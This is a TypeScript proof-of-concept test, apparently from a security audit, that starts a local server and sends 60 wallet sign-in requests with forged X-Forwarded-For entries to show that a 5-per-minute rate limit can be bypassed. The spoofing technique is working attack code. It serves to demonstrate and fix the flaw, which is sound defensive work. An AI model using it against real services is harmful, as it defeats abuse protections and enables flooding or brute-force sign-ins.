import bs58 from 'bs58';
import nacl from 'tweetnacl';
import { duringAttack, report, startTarget } from './harness.js';

/**
 * Finding 4: behind one proxy (TRUST_PROXY=true), 60 sign-in requests each with a forged
 * X-Forwarded-For entry in front of the one the proxy appends, through a limit of 5 a minute.
 */
const target = await startTarget({ TRUST_PROXY: 'true', SIGN_IN_RATE_LIMIT_PER_MIN: '5' });
const passed: number[] = [];
try {
  const figures = await duringAttack(target, async () => {
    for (let i = 0; i < 60; i++) {
      const wallet = bs58.encode(nacl.sign.keyPair().publicKey);
      const res = await fetch(`${target.server.url}/v1/auth/wallet/connect`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-forwarded-for': `198.51.100.${i}, 203.0.113.7` },
        body: JSON.stringify({ wallet_address: wallet }),
      });
      await res.arrayBuffer();
      if (res.status === 200) passed.push(i);
    }
  });
  report('spoofed X-Forwarded-For', figures, { 'sign-ins let through': `${passed.length} of 60 (limit 5)` });
} finally {
  await target.close();
}
